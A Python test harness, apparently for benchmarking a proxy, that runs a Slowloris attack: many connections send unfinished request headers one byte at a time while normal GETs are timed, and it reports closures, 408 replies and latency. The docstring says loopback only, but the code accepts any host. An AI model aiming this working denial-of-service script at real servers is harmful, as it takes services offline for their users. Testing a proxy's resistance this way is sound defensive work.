#!/usr/bin/env python3
"""Slowloris against a proxy, with normal GETs alongside.

    slowloris.py HOST PORT DRIPS SECS [DRIP_EVERY]

Opens DRIPS connections (200 at a time), each sending the start of a
request head and then one more header byte every DRIP_EVERY seconds
(default 5), never finishing it. Meanwhile a normal client sends a GET
every 50 ms on a fresh connection, each bounded by 5 s. After SECS seconds
it prints one JSON object:

    drips: opened, closed (by the proxy), answered_408, still_open,
           closed_after_s: min / median / max seconds from the first byte
    gets:  sent, failed, p50_ms, p99_ms, max_ms

Bounded in count (DRIPS, one GET per 50 ms) and time (SECS). Loopback
only; only the standard library.
"""

import asyncio
import json
import sys
import time

OPEN_AT_ONCE = 200
GET_EVERY = 0.05
GET_LIMIT = 5.0


async def drip(host, port, every, stop, results, sem):
    async with sem:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
        except Exception:
            results.append({"opened": False})
            return
    first = time.monotonic()
    writer.write(b"GET /drip HTTP/1.1\r\nHost: bench\r\nX-Drip: ")
    rec = {"opened": True, "closed_after": None, "answer": b""}
    results.append(rec)

    async def read_until_closed():
        data = b""
        try:
            while True:
                chunk = await reader.read(4096)
                if not chunk:
                    break
                data += chunk
        except Exception:
            pass
        rec["closed_after"] = time.monotonic() - first
        rec["answer"] = data[:64]

    reading = asyncio.ensure_future(read_until_closed())
    try:
        while not reading.done() and time.monotonic() < stop:
            await asyncio.wait([reading], timeout=min(every, max(0.0, stop - time.monotonic())))
            if reading.done() or time.monotonic() >= stop:
                break
            writer.write(b"a")
            await writer.drain()
    except Exception:
        pass
    if not reading.done():
        reading.cancel()
    writer.close()


async def one_get(host, port):
    t = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), GET_LIMIT)
        writer.write(b"GET /normal HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), GET_LIMIT)
        writer.close()
        ok = head.split(b" ", 2)[1] == b"200"
    except Exception:
        ok = False
    return ok, (time.monotonic() - t) * 1000


async def gets(host, port, stop, out):
    pending = []
    while time.monotonic() < stop:
        pending.append(asyncio.ensure_future(one_get(host, port)))
        await asyncio.sleep(GET_EVERY)
    out.extend(await asyncio.gather(*pending))


def pct(values, p):
    if not values:
        return None
    values = sorted(values)
    return round(values[min(len(values) - 1, int(len(values) * p))], 1)


async def main():
    host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    every = float(sys.argv[5]) if len(sys.argv) > 5 else 5.0
    stop = time.monotonic() + secs
    sem = asyncio.Semaphore(OPEN_AT_ONCE)
    drips, got = [], []
    await asyncio.gather(
        *(drip(host, port, every, stop, drips, sem) for _ in range(n)),
        gets(host, port, stop, got),
    )
    opened = [d for d in drips if d["opened"]]
    closed = [d for d in opened if d["closed_after"] is not None]
    times = [d["closed_after"] for d in closed]
    latencies = [ms for _, ms in got]
    print(json.dumps({
        "drips": {
            "opened": len(opened),
            "closed": len(closed),
            "answered_408": sum(1 for d in closed if d["answer"].startswith(b"HTTP/1.1 408")),
            "still_open": len(opened) - len(closed),
            "closed_after_s": [pct(times, 0), pct(times, 0.5), pct(times, 1.0)],
        },
        "gets": {
            "sent": len(got),
            "failed": sum(1 for ok, _ in got if not ok),
            "p50_ms": pct(latencies, 0.5),
            "p99_ms": pct(latencies, 0.99),
            "max_ms": pct(latencies, 1.0),
        },
    }))


if __name__ == "__main__":
    asyncio.run(main())
